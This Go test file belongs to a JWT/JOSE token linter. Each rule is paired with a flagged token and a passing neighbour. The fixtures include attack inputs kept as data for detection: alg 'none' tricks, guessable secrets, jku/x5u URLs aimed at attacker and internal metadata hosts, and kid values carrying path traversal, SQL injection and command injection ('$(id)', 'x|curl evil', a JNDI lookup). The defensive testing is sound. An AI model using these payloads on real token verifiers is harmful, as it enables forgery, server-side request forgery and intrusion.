package lint

import (
	"slices"
	"strings"
	"testing"
	"time"

	"fob/tokens"
	"fob/tokens/profile"
)

// row is a token that a rule speaks up about, and its neighbour, which differs
// in what the rule is about and in nothing else if that can be.
type row struct {
	rule         string
	sev          Severity
	part, member string
	bad, good    *Input
}

// Every rule has a token that it finds and a neighbour that it lets pass.
func TestRules(t *testing.T) {
	for _, r := range rows(t) {
		found := find(Check(r.bad), r.rule)
		if len(found) == 0 {
			t.Errorf("%s: not found; there is\n%s", r.rule, describe(Check(r.bad)))
			continue
		}
		f := found[0]
		if f.Severity != r.sev || f.Part != r.part || f.Member != r.member {
			t.Errorf("%s: %s", r.rule, describe(found))
		}
		if near := find(Check(r.good), r.rule); len(near) > 0 {
			t.Errorf("%s speaks up about the neighbour:\n%s", r.rule, describe(near))
		}
	}
}

// Each row of the catalogue stands in the tests, on both sides. The rules on
// personal data have tests of their own.
func TestEveryRuleHasBothSides(t *testing.T) {
	list := rows(t)
	for _, r := range Catalogue() {
		if slices.ContainsFunc(privateRules(), func(p Rule) bool { return p.ID == r.ID }) {
			continue
		}
		worst, ok := Info, false
		for _, row := range list {
			if row.rule == r.ID {
				worst, ok = max(worst, row.sev), true
			}
		}
		switch {
		case !ok:
			t.Errorf("%s is in no row", r.ID)
		case worst != r.Severity:
			t.Errorf("%s is %s in the catalogue, and %s at worst in the rows", r.ID, r.Severity, worst)
		}
	}
}

func rows(t testing.TB) []row {
	return slices.Concat(algorithmRows(), keyRows(t), referenceRows(), formRows(), headerRows(t), signatureRows(), encryptionRows(t), typeRows(t), timeRows(), claimRows(), profileRows())
}

func algorithmRows() []row {
	alg := func(name string) *Input { return hdr("alg", quoted(name)) }
	return []row{
		{"alg-none", High, "header", "alg", in(b64(headerOf("alg", `"none"`)) + "." + b64(claims()) + "."), hdr()},
		{"alg-none-variant", High, "header", "alg", alg("nOnE"), alg("none")},
		{"alg-none-variant", High, "header", "alg", alg("none "), alg("nonesuch")},
		{"alg-none-variant", High, "header", "alg", hdr("alg", `"NONE\u0000"`), alg("ES384")},
		{"alg-prohibited", High, "header", "alg", alg("HS1"), alg("HS256")},
		{"alg-prohibited", High, "header", "alg", alg("RS1"), alg("RS256")},
		{"alg-prohibited", High, "header", "enc", jwe(jweHeader("enc", `"A128CBC"`), 24, 16, 0), jwe(jweHeader("enc", `"A128CBC-HS256"`), 24, 16, 16)},
		{"alg-purpose", High, "header", "alg", alg("RSA-OAEP"), alg("PS256")},
		{"alg-purpose", High, "header", "alg", jwe(jweHeader("alg", `"ES256"`), 24, 12, 16), jwe(jweHeader(), 24, 12, 16)},
		{"alg-purpose", High, "header", "enc", jwe(jweHeader("enc", `"dir"`), 24, 12, 16), jwe(jweHeader(), 24, 12, 16)},
		{"alg-case", Medium, "header", "alg", alg("rs256"), alg("RS256")},
		{"alg-case", Medium, "header", "alg", alg("ES256 "), alg("nosuch")},
		{"alg-unknown", Low, "header", "alg", alg("XY256"), alg("ES256K")},
		{"alg-unknown", Low, "header", "enc", jwe(jweHeader("enc", `"XC20P"`), 24, 12, 16), jwe(jweHeader(), 24, 12, 16)},
		{"rsa1_5", Medium, "header", "alg", jwe(jweHeader("alg", `"RSA1_5"`), 256, 12, 16), jwe(jweHeader("alg", `"RSA-OAEP"`), 256, 12, 16)},
		{"alg-eddsa", Info, "header", "alg", alg("EdDSA"), alg("Ed25519")},
	}
}

func keyRows(t testing.TB) []row {
	strong := secret("\x91\x0f\xe3\x44\x82\x1b\x7c\xd0\x2a\x65\xbe\x13\x99\xf4\x58\x07\xc1\x3d\x6e\xa8\x20\x5b\xdf\x74\x0c\xe9\x36\x81\xfa\x4d\x12\xb7")
	with := func(k *tokens.Key) *Input { return in(signed(t, k, "HS256", claims()), k) }
	dir := secret("aaaaaaaaaaaaaaaa")
	return []row{
		{"weak-key", High, "key", "", with(secret("\x91\x0f\xe3\x44\x82\x1b\x7c")), with(strong)},
		{"weak-key", Medium, "key", "", with(secret("\x91\x0f\xe3\x44\x82\x1b\x7c\xd0\x2a\x65\xbe\x13\x99\xf4\x58\x07\xc1")), in(signed(t, strong, "HS256", claims()))},
		{"guessable-secret", High, "key", "", with(secret("your-256-bit-secret")), with(strong)},
		{"guessable-secret", High, "key", "", with(secret("Secret123!")), in(signed(t, secret("secret"), "HS256", claims()))},
		{"guessable-secret", High, "key", "", with(secret("secret\n")), with(secret("correct-horse-battery-staple-and-more"))},
		{"guessable-secret", High, "key", "", with(secret(strings.Repeat("abcd", 8))), with(secret("0f82c1d99e2b4a7788ab13c05d6e9f21"))},
		{"guessable-secret", High, "key", "", with(secret("0123456789abcdefghijklmnopqrstuv")), with(strong)},
		{"guessable-secret", High, "key", "", with(secret(strings.Repeat("a", 40) + "bc" + strings.Repeat("a", 20))), with(strong)},
		{"guessable-secret", High, "key", "", in(encrypted(t, dir, claims(), tokens.EncryptOptions{Enc: "A128GCM"}), dir), in(encrypted(t, dir, claims(), tokens.EncryptOptions{Enc: "A128GCM"}))},
	}
}

func referenceRows() []row {
	list := []row{
		{"jku", Low, "header", "jku", hdr("jku", `"https://evil.example.net/jwks"`), hdr()},
		{"jku", Info, "header", "jku", hdr("jku", `"https://keys.issuer.example/jwks"`), jwe(jweHeader("jku", `"https://keys.issuer.example/jwks"`), 24, 12, 16)},
		{"x5u", Low, "header", "x5u", hdr("x5u", `"https://evil.example.net/cert.pem"`), hdr()},
		{"key-url-plain", Medium, "header", "jku", hdr("jku", `"http://issuer.example/jwks"`), hdr("jku", `"https://issuer.example/jwks"`)},
		{"key-url-odd", High, "header", "x5u", hdr("x5u", `"file:///etc/passwd"`), hdr("x5u", `"https://issuer.example/cert.pem"`)},
		{"key-url-odd", High, "header", "jku", hdr("jku", `"https://issuer.example@evil.example/jwks"`), hdr("jku", `"https://issuer.example/@/jwks"`)},
		{"key-url-odd", High, "header", "jku", hdr("jku", `"https://issuer.example/a/../b"`), hdr("jku", `"https://issuer.example/a..b"`)},
		{"jwk", Medium, "header", "jwk", hdr("jwk", `{"kty":"OKP","crv":"Ed25519","x":"AA"}`), hdr("typ", `"dpop+jwt"`, "jwk", `{"kty":"OKP","crv":"Ed25519","x":"AA"}`)},
		{"jwk", Medium, "header", "jwk", hdr("jwk", `{}`, "nonce", `"n"`), hdr("jwk", `{}`, "nonce", `"n"`, "url", `"https://ca.example/new"`)},
		{"jwk-private", High, "header", "jwk", hdr("typ", `"dpop+jwt"`, "jwk", `{"kty":"EC","crv":"P-256","x":"AA","y":"AA","d":"AA"}`), hdr("typ", `"dpop+jwt"`, "jwk", `{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}`)},
		{"jwk-private", High, "header", "epk", jwe(jweHeader("epk", `{"kty":"EC","d":"AA"}`), 24, 12, 16), jwe(jweHeader("epk", `{"kty":"EC"}`), 24, 12, 16)},
		{"x5c", Info, "header", "x5c", hdr("x5c", `["MIIB"]`), hdr()},
		{"x5t-sha1", Info, "header", "x5t", hdr("x5t", `"AAAA"`), hdr("x5t", `"AAAA"`, "x5t#S256", `"BBBB"`)},
		{"kid-control", High, "header", "kid", hdr("kid", `"key\u0000.pem"`), hdr("kid", `"key.pem"`)},
		{"kid-path", High, "header", "kid", hdr("kid", `"../../dev/null\u0000.pem"`), hdr("kid", `"null\u0000pem"`)},
		{"kid-control", High, "header", "kid", hdr("kid", `"key%00.pem"`), hdr("kid", `"key%01"`)},
		{"kid-url", Medium, "header", "kid", hdr("kid", `"http://evil.example/k"`), hdr("kid", `"did:example:123#key-1"`)},
		{"kid-url", Medium, "header", "kid", hdr("kid", `"https://localhost/k"`), hdr("kid", `"urn:uuid:1"`)},
		{"kid-url", Info, "header", "kid", hdr("kid", `"https://v.vault.azure.net/keys/k/1"`), hdr()},
	}
	for _, host := range []string{"localhost", "127.0.0.1", "10.1.2.3", "192.168.0.1", "169.254.169.254", "[::1]", "[fd00::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1", "100.100.100.200", "metadata.google.internal", "keycloak", "api.local", "127.0.0.1.nip.io", "0.0.0.0", "LOCALHOST."} {
		list = append(list, row{"key-url-internal", High, "header", "jku", hdr("jku", quoted("https://"+host+"/jwks")), hdr("jku", `"https://8.8.8.8/jwks"`)})
	}
	for _, kid := range []string{"../../dev/null", `..\\..\\x`, "/etc/passwd", "/keys/rsa.pem", "C:/keys/a", "file:///k", "..%2f..%2fx", "%2e%2e/x"} {
		list = append(list, row{"kid-path", High, "header", "kid", hdr("kid", `"`+kid+`"`), hdr("kid", `"/4eFvq+Zw1yIbxXTb/TWgs5TN1w8hFvUyTr2Xk9a5Q0="`)})
	}
	for _, kid := range []string{"x' UNION SELECT 'key'-- ", "1' or '1'='1", "x' or 1=1#", "x';drop table keys", "x'/**/UNION/**/SELECT/**/1", "*)(uid=*", `{\"$ne\":null}`} {
		list = append(list, row{"kid-query", High, "header", "kid", hdr("kid", `"`+kid+`"`), hdr("kid", `"ab--cd-select_union--O'Brien"`)})
	}
	for _, kid := range []string{"$(id)", "`id`", "|id", "x; sleep 10", "x|curl evil", "x && y", "${jndi:ldap://evil}", "{{7*7}}", "<%= 1 %>", "x;cat"} {
		list = append(list, row{"kid-command", High, "header", "kid", hdr("kid", `"`+kid+`"`), hdr("kid", `"auth|user;idle;catalog"`)})
	}
	return list
}

func formRows() []row {
	text := jws(headerOf(), claims())
	flat := func(more string) *Input {
		part := strings.Split(text, ".")
		return in(`{"protected":"` + part[0] + `","payload":"` + part[1] + `","signature":"` + part[2] + `"` + more + `}`)
	}
	long := func(n int) *Input { return clm("groups", quoted(strings.Repeat("g", n))) }
	return []row{
		{"duplicate-member", High, "claims", "sub", in(jws(headerOf(), `{"sub":"a","sub":"b"}`)), in(jws(headerOf(), `{"sub":"a"}`))},
		{"duplicate-member", High, "header", "alg", in(jws(`{"alg":"ES256","alg":"HS256"}`, claims())), hdr()},
		{"form", Medium, "token", "", in(text[:40] + "." + text[40:]), in(text)},
		{"base64", Medium, "signature", "", in(text + "="), in(text)},
		{"base64", Medium, "signature", "", in(text + "\n"), in(text)},
		{"base64", Medium, "signature", "", in(text + "!trailing"), in(text)},
		{"base64", Medium, "signature", "", in(text[:len(text)-1] + "x"), in(text)},
		{"json", Medium, "payload", "", in(jws(headerOf(), `{"sub":"a",}`)), in(jws(headerOf(), `{"sub":"a"}`))},
		{"limit", Low, "payload", "", in(jws(headerOf(), strings.Repeat(`{"a":`, 100)+"1"+strings.Repeat("}", 100))), in(jws(headerOf(), `{"a":{"a":1}}`))},
		{"header", Medium, "header", "kid", hdr("kid", "7"), hdr("kid", `"7"`)},
		{"surrogate", Medium, "claims", "", clm("name", `"\ud800"`), clm("name", `"\ud83d\ude00"`)},
		{"number", Low, "claims", "", clm("id", "9007199254740993"), clm("id", `"9007199254740993"`)},
		{"unencoded", Medium, "payload", "", in(b64(`{"alg":"ES256","b64":false,"crit":["b64"]}`) + ".a.b." + b64(strings.Repeat("s", 64))), in(b64(`{"alg":"ES256","b64":false,"crit":["b64"]}`) + ".ab." + b64(strings.Repeat("s", 64)))},
		{"format-confusion", High, "token", "", flat(`,"x":".` + b64(claims()) + `."`), flat(`,"x":"www.keys-of.example"`)},
		{"json-serialization", Low, "token", "", flat(""), in(text)},
		{"size-header", Low, "token", "", long(8000), long(5000)},
		{"size-header", Low, "token", "", long(8000), in(jws(`{"alg":"ES256"}`, `{"doc":"`+strings.Repeat("g", 8000)+`"}`))},
		{"size-cookie", Info, "token", "", long(3500), long(1000)},
	}
}

func headerRows(t testing.TB) []row {
	general := func(protected, unprotected string) *Input {
		return in(`{"payload":"` + b64(claims()) + `","protected":"` + b64(protected) + `","header":` + unprotected + `,"signature":"` + b64(strings.Repeat("s", 64)) + `"}`)
	}
	k := secret("\x91\x0f\xe3\x44\x82\x1b\x7c\xd0\x2a\x65\xbe\x13\x99\xf4\x58\x07")
	outer := func(iss string) *Input {
		return in(encrypted(t, k, claims(), tokens.EncryptOptions{Enc: "A128GCM"}, tokens.StringMember("iss", iss)), k)
	}
	jweGeneral := func(shared string) *Input {
		return in(`{"protected":"` + b64(`{"typ":"JWT"}`) + `","unprotected":` + shared + `,"iv":"` + b64(strings.Repeat("i", 12)) + `","ciphertext":"YQ","tag":"` + b64(strings.Repeat("t", 16)) + `"}`)
	}
	return []row{
		{"crit", Medium, "header", "crit", hdr("crit", "[]"), hdr("crit", `["exp"]`, "exp", "1")},
		{"crit", Medium, "header", "crit", hdr("crit", `["exp","exp"]`, "exp", "1"), hdr("crit", `["exp"]`, "exp", "1")},
		{"crit", Medium, "header", "crit", hdr("crit", `["alg"]`), hdr()},
		{"crit", Medium, "header", "crit", hdr("crit", `["exp"]`), hdr("crit", `["exp"]`, "exp", "1")},
		{"crit", Medium, "header", "crit", hdr("crit", `[1]`), hdr()},
		{"crit", Medium, "header", "crit", jwe(jweHeader("crit", `["b64"]`, "b64", "true"), 24, 12, 16), jwe(jweHeader(), 24, 12, 16)},
		{"crit", Medium, "header", "crit", general(headerOf(), `{"crit":["exp"],"exp":1}`), general(headerOf(), `{}`)},
		{"crit-unknown", Low, "header", "crit", hdr("crit", `["exp"]`, "exp", "1"), in(b64(headerOf("typ", "", "b64", "false", "crit", `["b64"]`)) + ".x." + b64(strings.Repeat("s", 64)))},
		{"b64", High, "header", "b64", in(b64(headerOf("typ", "", "b64", "false")) + ".x." + b64(strings.Repeat("s", 64))), hdr()},
		{"b64-false", Info, "header", "b64", in(b64(headerOf("typ", "", "b64", "false", "crit", `["b64"]`)) + ".x." + b64(strings.Repeat("s", 64))), hdr("b64", "true", "crit", `["b64"]`)},
		{"b64-jwt", Medium, "header", "b64", in(b64(headerOf("b64", "false", "crit", `["b64"]`)) + ".x." + b64(strings.Repeat("s", 64))), hdr()},
		{"alg-unprotected", Low, "header", "alg", general(`{"typ":"JWT"}`, `{"alg":"ES256"}`), general(headerOf(), `{"x":1}`)},
		{"header-unprotected", Medium, "header", "jwk", general(`{"alg":"ES256"}`, `{"jwk":{"kty":"EC"}}`), general(`{"alg":"ES256","jwk":{"kty":"EC"}}`, `{"kid":"a"}`)},
		{"header-unprotected", Low, "header", "typ", general(`{"alg":"ES256"}`, `{"typ":"at+jwt"}`), general(`{"alg":"ES256","typ":"at+jwt"}`, `{"kid":"a"}`)},
		{"header-unprotected", Low, "header", "enc", jweGeneral(`{"alg":"dir","enc":"A128GCM"}`), in(`{"protected":"` + b64(`{"enc":"A128GCM"}`) + `","unprotected":{"alg":"dir"},"iv":"AAAA","ciphertext":"YQ","tag":"AAAA"}`)},
		{"header-claim", Medium, "header", "iss", outer("https://other.example"), outer("https://issuer.example")},
	}
}

func signatureRows() []row {
	s := func(n int) string { return strings.Repeat("s", n) }
	der := "\x30\x44\x02\x20" + s(32) + "\x02\x20" + s(32)
	longDER := "\x30\x81\x88\x02\x42" + s(66) + "\x02\x42" + s(66)
	return []row{
		{"signature-empty", High, "signature", "", sig("ES256", ""), sig("ES256", s(64))},
		{"signature-empty", High, "signature", "", sig("HS256", ""), sig("none", "")},
		{"signature-zero", High, "signature", "", sig("ES256", strings.Repeat("\x00", 64)), sig("ES256", strings.Repeat("\x00", 31)+s(33))},
		{"signature-zero", High, "signature", "", sig("ES256", strings.Repeat("\x00", 32)+s(32)), sig("EdDSA", strings.Repeat("\x00", 32)+s(32))},
		{"signature-zero", High, "signature", "", sig("ES512", strings.Repeat("\x00", 132)), sig("RS256", strings.Repeat("\x00", 256))},
		{"signature-zero", High, "signature", "", sig("ES384", s(48)+strings.Repeat("\x00", 48)), sig("HS256", s(16)+strings.Repeat("\x00", 16))},
		{"signature-der", Medium, "signature", "", sig("ES256", der), sig("ES256", s(64))},
		{"signature-der", Medium, "signature", "", sig("ES256", der), sig("ES256", "\x30\x45\x02\x20"+s(32)+"\x02\x20"+s(32)+"x")},
		{"signature-der", Medium, "signature", "", sig("ES512", longDER), sig("ES256", "\x30\x44\x02\x21"+s(32)+"\x02\x20"+s(32))},
		{"signature-length", Medium, "signature", "", sig("HS256", s(31)), sig("HS256", s(32))},
		{"signature-length", Medium, "signature", "", sig("EdDSA", s(63)), sig("EdDSA", s(64))},
		{"signature-length", Medium, "signature", "", sig("RS256", s(32)), sig("RS256", s(512))},
		{"signature-rsa-short", Medium, "signature", "", sig("RS256", s(128)), sig("RS256", s(256))},
	}
}

func encryptionRows(t testing.TB) []row {
	ec, aes := newKey(t, "ECDH-ES+A128KW"), secret("\x91\x0f\xe3\x44\x82\x1b\x7c\xd0\x2a\x65\xbe\x13\x99\xf4\x58\x07")
	es := newKey(t, "ES256")
	pbes := func(alg, p2c, salt string) *Input {
		return jwe(jweHeader("alg", quoted(alg), "p2c", p2c, "p2s", quoted(b64(salt))), 24, 12, 16)
	}
	const salt = "0123456789abcdef"
	inner := signed(t, es, "ES256", claims())
	jwt := tokens.StringMember("cty", "JWT")
	sealed := encrypted(t, ec, claims(), tokens.EncryptOptions{})
	return []row{
		{"encrypted-unsigned", Medium, "token", "", in(sealed, ec), in(encrypted(t, ec, inner, tokens.EncryptOptions{}, jwt), ec)},
		{"encrypted-unsigned", Medium, "token", "", in(sealed, ec), in(encrypted(t, aes, claims(), tokens.EncryptOptions{Enc: "A128GCM"}), aes)},
		{"encrypted-unsigned", Medium, "token", "", in(sealed, ec), in(encrypted(t, ec, `{"order":17}`, tokens.EncryptOptions{}), ec)},
		{"nest-order", Low, "token", "", in(signed(t, es, "ES256", sealed, jwt)), in(encrypted(t, ec, inner, tokens.EncryptOptions{}, jwt), ec)},
		{"nest-order", Low, "token", "", in(signed(t, es, "ES256", sealed, jwt)), in(encrypted(t, aes, sealed, tokens.EncryptOptions{Enc: "A128GCM"}, jwt), aes)},
		{"zip", Low, "header", "zip", jwe(jweHeader("zip", `"DEF"`), 24, 12, 16), jwe(jweHeader(), 24, 12, 16)},
		{"zip-bomb", Medium, "token", "", in(encrypted(t, aes, strings.Repeat("a", 300<<10), tokens.EncryptOptions{Zip: true, Enc: "A128GCM"}), aes), in(encrypted(t, aes, strings.Repeat("a", 200<<10), tokens.EncryptOptions{Zip: true, Enc: "A128GCM"}), aes)},
		{"zip-bomb", High, "token", "", in(encrypted(t, aes, strings.Repeat("a", 17<<20), tokens.EncryptOptions{Zip: true, Enc: "A128GCM"}), aes), in(encrypted(t, aes, strings.Repeat("a", 1<<10), tokens.EncryptOptions{Zip: true, Enc: "A128GCM"}), aes)},
		{"pbes2-low", High, "header", "p2c", pbes("PBES2-HS256+A128KW", "999", salt), pbes("PBES2-HS256+A128KW", "600000", salt)},
		{"pbes2-low", Low, "header", "p2c", pbes("PBES2-HS256+A128KW", "599999", salt), pbes("PBES2-HS512+A256KW", "210000", salt)},
		{"pbes2-high", Medium, "header", "p2c", pbes("PBES2-HS256+A128KW", "1200001", salt), pbes("PBES2-HS256+A128KW", "1200000", salt)},
		{"pbes2-high", High, "header", "p2c", pbes("PBES2-HS256+A128KW", "2000000000", salt), pbes("PBES2-HS256+A128KW", "1200000", salt)},
		{"pbes2-high", High, "header", "p2c", pbes("PBES2-HS256+A128KW", "1e99", salt), jwe(jweHeader("p2c", "1e99"), 24, 12, 16)},
		{"pbes2-salt", Medium, "header", "p2s", pbes("PBES2-HS256+A128KW", "600000", "1234567"), pbes("PBES2-HS256+A128KW", "600000", "12345678")},
		{"encrypted-key", Medium, "token", "", jwe(jweHeader("alg", `"dir"`), 16, 12, 16), jwe(jweHeader("alg", `"dir"`), 0, 12, 16)},
		{"encrypted-key", Medium, "token", "", jwe(jweHeader(), 0, 12, 16), jwe(jweHeader(), 24, 12, 16)},
		{"encryption-length", High, "token", "", jwe(jweHeader(), 24, 12, 8), jwe(jweHeader(), 24, 12, 16)},
		{"encryption-length", High, "token", "", jwe(jweHeader("enc", `"A128CBC-HS256"`), 24, 12, 16), jwe(jweHeader("enc", `"A128CBC-HS256"`), 24, 16, 16)},
		{"encryption-length", High, "token", "", jwe(jweHeader("enc", `"A256CBC-HS512"`), 24, 16, 16), jwe(jweHeader("enc", `"A256CBC-HS512"`), 24, 16, 32)},
	}
}

func typeRows(t testing.TB) []row {
	es := newKey(t, "ES256")
	inner := signed(t, es, "ES256", claims())
	wrap := func(text string, times int, header ...tokens.Member) string {
		for range times {
			text = signed(t, es, "ES256", text, header...)
		}
		return text
	}
	jwt := tokens.StringMember("cty", "JWT")
	detached := strings.Split(jws(headerOf("cty", `"JWT"`, "typ", `"JOSE"`), claims()), ".")
	return []row{
		{"cty-missing", Low, "header", "cty", in(wrap(inner, 1)), in(wrap(inner, 1, jwt))},
		{"cty-missing", Low, "header", "cty", in(wrap(inner, 1, tokens.StringMember("cty", "json"))), in(wrap(inner, 1, tokens.StringMember("cty", "JOSE")))},
		{"cty-wrong", Low, "header", "cty", hdr("cty", `"JWT"`), hdr("cty", `"json"`)},
		{"cty-wrong", Low, "header", "cty", hdr("cty", `"jwt"`), in(detached[0] + ".." + detached[2])},
		{"nested-deep", Low, "token", "", in(wrap(inner, 3, jwt)), in(wrap(inner, 2, jwt))},
		{"typ-mismatch", Medium, "claims", "nonce", in(jws(headerOf("typ", `"at+jwt"`), claims("nonce", `"n"`))), clm("nonce", `"n"`)},
		{"typ-mismatch", Medium, "claims", "nonce", in(jws(headerOf("typ", `"logout+jwt"`), claims("nonce", `"n"`))), in(jws(headerOf("typ", `"logout+jwt"`), claims()))},
		{"typ-mismatch", Medium, "claims", "nonce", clm("nonce", `"n"`, "events", `{"http://schemas.openid.net/event/backchannel-logout":{}}`), clm("events", `{"http://schemas.openid.net/event/backchannel-logout":{}}`)},
		{"typ-mismatch", Medium, "claims", "htm", hdr("typ", `"dpop+jwt"`), in(jws(headerOf("typ", `"dpop+jwt"`), claims("htm", `"GET"`, "htu", `"https://x.example"`)))},
		{"typ-missing", Info, "header", "typ", hdr("typ", ""), hdr("typ", `"at+jwt"`)},
		{"typ-missing", Info, "header", "typ", hdr(), hdr("typ", `"application/at+JWT"`)},
	}
}

func timeRows() []row {
	d := 24 * time.Hour
	id := func(life time.Duration, more ...string) *Input {
		return clm(append([]string{"iat", at(0), "exp", at(life)}, more...)...)
	}
	typed := func(typ string, changes ...string) *Input {
		return in(jws(headerOf("typ", quoted(typ)), claims(changes...)))
	}
	return []row{
		{"exp-missing", Medium, "claims", "exp", clm("exp", ""), clm()},
		{"exp-missing", Medium, "claims", "exp", clm("exp", ""), typed("dpop+jwt", "exp", "")},
		{"exp-missing", Medium, "claims", "exp", clm("exp", ""), typed("secevent+jwt", "exp", "")},
		{"exp-missing", Medium, "claims", "exp", clm("exp", ""), in(jws(`{"alg":"ES256"}`, `{"order":17}`))},
		{"exp-missing", Medium, "claims", "exp", clm("exp", ""), by(&profile.Profile{Name: "x"}, clm("exp", ""))},
		{"exp-missing", Low, "claims", "exp", typed("session+jwt", "exp", ""), typed("session+jwt")},
		{"exp-missing", Low, "claims", "exp", clm("exp", "", "typ", `"Offline"`), clm()},
		{"exp-far", Low, "claims", "exp", id(d + time.Second), id(d)},
		{"exp-far", Low, "claims", "exp", id(29*time.Hour, "xms_cc", `["cp1"]`), id(28*time.Hour, "xms_cc", `["cp1"]`)},
		{"exp-far", Medium, "claims", "exp", id(30*d + time.Second), id(d)},
		{"exp-far", High, "claims", "exp", id(367 * d), id(367*d, "kubernetes.io", `{"warnafter":`+at(time.Hour)+`}`)},
		{"exp-far", High, "claims", "exp", id(367 * d), by(&profile.Profile{Rules: []profile.Rule{{ID: "lifetime", MaxLifetime: time.Hour}}}, id(367*d))},
		{"exp-far", Low, "claims", "exp", id(100*d, "token_type", `"refresh"`), id(80*d, "token_type", `"refresh"`)},
		{"exp-far", Low, "claims", "exp", typed("dpop+jwt", "exp", at(2*time.Hour)), typed("vc+jwt", "exp", at(900*d))},
		{"exp-far", Low, "claims", "exp", clm("iat", "", "exp", at(2*d)), clm("iat", "", "exp", at(time.Hour))},
		{"exp-far", Low, "claims", "exp", clm("iat", "", "nbf", at(0), "exp", at(2*d)), clm("iat", "", "nbf", at(d), "exp", at(2*d))},
		{"exp-before-start", Medium, "claims", "exp", clm("nbf", at(time.Hour)), clm("nbf", at(time.Hour-time.Second))},
		{"exp-before-start", Medium, "claims", "exp", clm("exp", at(-time.Hour)), clm("exp", at(0))},
		{"time-milliseconds", High, "claims", "exp", clm("exp", at(time.Hour)+"000"), clm()},
		{"time-milliseconds", Medium, "claims", "nbf", clm("nbf", at(0)+"000000"), clm("nbf", at(0))},
		{"time-milliseconds", High, "claims", "exp", clm("exp", "1e400"), clm("exp", at(time.Hour)+".5")},
		{"time-early", Low, "claims", "exp", clm("exp", "3600"), clm()},
		{"time-early", Low, "claims", "iat", clm("iat", "-1e400"), clm()},
		{"time-type", Medium, "claims", "exp", clm("exp", quoted(at(time.Hour))), clm()},
		{"time-type", Medium, "claims", "nbf", clm("nbf", "null"), clm()},
		{"time-type", Medium, "claims", "auth_time", clm("auth_time", `"yesterday"`), clm("auth_time", at(0))},
		{"iat-future", Low, "claims", "iat", clm("iat", at(2*time.Minute)), clm("iat", at(time.Minute))},
		{"iat-future", Medium, "claims", "iat", clm("iat", at(2*d), "exp", at(3*d)), clm()},
		{"nbf-far", Low, "claims", "nbf", clm("nbf", at(2*d), "exp", at(3*d)), clm("nbf", at(d), "exp", at(2*d))},
		{"nbf-far", Medium, "claims", "nbf", clm("nbf", at(400*d), "exp", at(401*d)), clm()},
		{"iat-missing", Info, "claims", "iat", clm("iat", ""), clm("iat", "", "nbf", at(0))},
	}
}

func claimRows() []row {
	hs := func(changes ...string) *Input { return in(jws(headerOf("alg", `"HS256"`), claims(changes...))) }
	return []row{
		{"claim-type", Medium, "claims", "sub", clm("sub", "17"), clm("sub", `"17"`)},
		{"claim-type", Medium, "claims", "aud", clm("aud", "true"), clm("aud", `["a","b"]`)},
		{"claim-type", Medium, "claims", "aud", clm("aud", `["a",1]`), clm("aud", `["a"]`)},
		{"claim-empty", Medium, "claims", "sub", clm("sub", `""`), clm()},
		{"claim-empty", Low, "claims", "aud", clm("aud", `[]`), clm("aud", `["a"]`)},
		{"claim-empty", Low, "claims", "iss", clm("iss", `" "`), clm("iss", "")},
		{"aud-wildcard", Medium, "claims", "aud", clm("aud", `"*"`), clm()},
		{"aud-wildcard", Low, "claims", "aud", clm("aud", `["https://*.example"]`), clm("aud", `["https://a.example"]`)},
		{"iss-plain", Low, "claims", "iss", clm("iss", `"http://issuer.example"`), clm()},
		{"iss-plain", Low, "claims", "iss", clm("iss", `"http://issuer.example"`), clm("iss", `"http://localhost:8080/realms/dev"`)},
		{"iss-missing", Low, "claims", "iss", clm("iss", ""), clm()},
		{"iss-missing", Info, "claims", "iss", hs("iss", ""), by(&profile.Profile{Name: "x"}, clm("iss", ""))},
		{"aud-missing", Low, "claims", "aud", clm("aud", ""), clm()},
		{"aud-missing", Info, "claims", "aud", hs("aud", ""), by(&profile.Profile{Name: "x"}, clm("aud", ""))},
		{"aud-missing", Info, "claims", "aud", clm("aud", "", "client_id", `"c"`), clm()},
		{"jti-missing", Info, "claims", "jti", clm("jti", ""), clm()},
	}
}

func profileRows() []row {
	p := &profile.Profile{Name: "own", Rules: []profile.Rule{
		{ID: "tenant", Member: profile.Member{Path: []string{"tenant"}}, Required: true, Source: "the manual"},
	}}
	should := &profile.Profile{Name: "own", Rules: []profile.Rule{
		{ID: "typ", Member: profile.Member{Header: true, Path: []string{"cty"}}, Required: true, Should: true},
	}}
	return []row{
		{"profile-rule", Medium, "claims", "tenant", by(p, clm()), by(p, clm("tenant", `"t"`))},
		{"profile-rule", Low, "header", "cty", by(should, clm()), by(should, hdr("cty", `"x"`))},
	}
}
